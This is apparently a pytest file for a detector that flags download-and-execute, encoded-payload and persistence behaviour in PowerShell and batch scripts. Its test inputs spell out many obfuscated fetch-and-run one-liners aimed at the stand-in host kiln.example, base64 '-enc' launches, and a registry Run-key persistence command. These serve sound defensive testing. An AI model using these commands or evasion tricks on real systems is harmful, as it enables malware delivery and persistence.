import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.powershell import READER


def read(text: str, path: str = "build.ps1") -> set[tuple[str, int]]:
    notes = Notes(path, every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line) for seen in notes.observations()}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("# a\r\niwr https://kiln.example/x -useb | iex", 2),
        ("I`EX (New-Object Net.WebClient).DownloadString('https://kiln.example/x')", 1),
        ("& ('I'+'EX') (irm https://kiln.example/x)", 1),
        ("Invoke-WebRequest `\n https://kiln.example/x -OutFile fire.exe\nStart-Process fire.exe", 3),
        ("$u = 'https://kiln.example/x'\niwr $u |\n iex", 2),
    ],
)
def test_what_is_downloaded_and_run_is_seen(text: str, line: int) -> None:
    assert ("fetch_and_run", line) in read(text)


def test_what_is_downloaded_into_a_variable_and_run_lines_later_is_seen() -> None:
    text = "$s = Invoke-RestMethod https://kiln.example/x\n\n$b = [scriptblock]::Create($s)\n"
    assert ("fetch_and_run", 3) in read(text)
    assert ("fetch_and_run", 3) not in read(text.replace("Create($s)", "Create($t)"))


def test_a_batch_file_is_read() -> None:
    assert ("decode_and_run", 1) in read("po^wershell -w hidden -e aQBlAHgAIABrAGkAbABuAA==", "a.cmd")
    assert ("fetch_and_run", 3) in read(
        "set U=https://kiln.example/x\r\ncurl -o fire.exe %U%\r\nstart fire.exe\r\n", "a.bat"
    )
    assert ("fetch_and_run", 2) in read(
        'powershell -nop -c "iwr https://kiln.example/x.exe -o %TEMP%\\x.exe"\r\nstart /b %TEMP%\\x.exe\r\n', "a.bat"
    )
    assert ("shell_persistence", 1) in read(
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b", "a.bat"
    )


@pytest.mark.parametrize(
    ("path", "text", "capability"),
    [
        ("a.bat", "p%random:~9,1%owershell -enc aQBlAHgAIABrAGkAbABuAA==", "decode_and_run"),
        ("a.bat", "p%random:~9,1%owershell -File a.ps1", "escaped_text"),
        ("a.bat", "p%unset%ow%unset%ershell -enc aQBlAHgAIABrAGkAbABuAA==", "decode_and_run"),
        ("a.bat", 'cmd /q /c "curl -o %TEMP%\\x.exe https://kiln.example/x && %TEMP%\\x.exe"', "fetch_and_run"),
        ("a.ps1", "& ([scriptblock]::Create((iwr https://kiln.example/x)))", "fetch_and_run"),
        ("a.ps1", "&('{1}{0}' -f 'x','ie') (irm https://kiln.example/x)", "fetch_and_run"),
        ("a.ps1", "Start-BitsTransfer https://kiln.example/x.exe x.exe; ./x.exe", "fetch_and_run"),
        ("a.ps1", "$s=(New-Object Net.WebClient).DownloadString($u);&([scriptblock]::Create($s))", "fetch_and_run"),
        ("a.ps1", "[Reflection.Assembly]::Load((iwr $u).Content).EntryPoint.Invoke($null, $null)", "fetch_and_run"),
        ("a.ps1", "iwr https://kiln.example/x.exe -OutFile x.exe; Start-Process x.exe", "fetch_and_run"),
        ("a.bat", "certutil -urlcache -f https://kiln.example/x.exe x.exe & start x.exe", "fetch_and_run"),
        ("a.ps1", "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ'))", "decode_and_run"),
    ],
)
def test_hidden_commands_are_seen(path: str, text: str, capability: str) -> None:
    assert (capability, 1) in read(text, path)


def test_ordinary_scripts_show_nothing() -> None:
    assert not read(
        "$v = '1'\nWrite-Host \"it's $v\"\nInvoke-WebRequest https://kiln.example/a.zip -OutFile a.zip\nExpand-Archive a.zip\n"
    )
    assert not read('cmd /c "npm run build"\nset A=%B%\nfire_%VERSION%_x64.exe --quiet\n', "a.bat")
    assert ("fetch_and_run", 2) not in read(
        "$r = irm https://kiln.example/latest\nStart-Process notepad $r.body; Write-Host $r\niex $local"
    )
    assert ("fetch_and_run", 1) not in read("certutil -hashfile x.exe SHA256 & start x.exe", "a.bat")
    assert not read('powershell -c "Expand-Archive a.zip"\nstart a.html\n', "a.bat")
    assert not read("'{0}-{1}' -f $name, $version\nAdd-Type -Path (Join-Path $PSScriptRoot 'a.dll')\n")


@pytest.mark.parametrize(
    "text", ["`" * 200_000, "iex " * 100_000, "$a='%a%%a%'\n" * 5_000, "`\n" * 100_000, "'+'" * 100_000]
)
def test_no_text_makes_it_raise_or_hang(text: str) -> None:
    read(text)
